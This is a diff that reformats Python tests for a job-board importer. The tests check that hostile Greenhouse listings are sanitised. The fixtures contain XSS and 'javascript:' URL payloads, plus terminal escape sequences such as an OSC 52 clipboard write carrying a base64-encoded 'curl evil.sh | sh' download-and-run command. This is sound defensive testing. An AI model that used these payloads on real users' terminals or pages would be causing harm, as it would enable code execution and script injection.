@@ -12,18 +12,24 @@ from .board_server import Loopback, add_sources
 
 
 def _job(job_id: object, title: object, **extra: object) -> dict[str, object]:
-    return {"id": job_id, "title": title, "absolute_url": f"https://boards.greenhouse.io/evil/jobs/{job_id}",
-            "location": {"name": "Remote"}, "content": "&lt;p&gt;ok&lt;/p&gt;", **extra}
+    return {
+        "id": job_id,
+        "title": title,
+        "absolute_url": f"https://boards.greenhouse.io/evil/jobs/{job_id}",
+        "location": {"name": "Remote"},
+        "content": "&lt;p&gt;ok&lt;/p&gt;",
+        **extra,
+    }
 
 
 def test_hostile_greenhouse_board_is_tamed(board_home: Path, loopback: Loopback) -> None:
     jobs = [
         _job(1, "<script>alert(1)</script><b>Senior</b> Engineer &amp; <i>Lead</i>"),
         _job(2, "Huge", content="&lt;p&gt;" + "Go and Kubernetes. " * 20_000 + "&lt;/p&gt;"),
-        _job(3, ["not", "a", "title"]),                       # wrong type: skipped, counted
+        _job(3, ["not", "a", "title"]),  # wrong type: skipped, counted
         _job(4, "Wrong types", location=["x"], content={"html": 1}, updated_at=12, metadata="nope"),
         _job(5, "Bad URL", absolute_url="javascript:alert(1)"),
-        _job(None, "No id"),                                  # no id: skipped; the listing is not complete
+        _job(None, "No id"),  # no id: skipped; the listing is not complete
         "not even an object",
         _job(6, "T" * 5000),
     ]
@@ -73,9 +79,15 @@ def test_wrong_types_on_every_kind_never_crash(board_home: Path, loopback: Loopb
 def test_terminal_control_sequences_from_a_board_never_reach_the_store(board_home: Path, loopback: Loopback) -> None:
     """An ESC in a title would let a board retitle, clear or write the clipboard of the user's terminal."""
     osc52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
-    jobs = [_job(1, f"Engineer{osc52}\x1b[2J", location={"name": "Berlin\x9b31m"},
-                 content=f"&lt;p&gt;Go{osc52} and\tKubernetes&lt;/p&gt;\x1b[8m",
-                 absolute_url="https://boards.greenhouse.io/evil/jobs/1\x1b[0m")]
+    jobs = [
+        _job(
+            1,
+            f"Engineer{osc52}\x1b[2J",
+            location={"name": "Berlin\x9b31m"},
+            content=f"&lt;p&gt;Go{osc52} and\tKubernetes&lt;/p&gt;\x1b[8m",
+            absolute_url="https://boards.greenhouse.io/evil/jobs/1\x1b[0m",
+        )
+    ]
     loopback.json("/v1/boards/evil/jobs", {"jobs": jobs})
     add_sources(board_home, ("greenhouse", "evil"))
     ws = open_workspace(board_home)
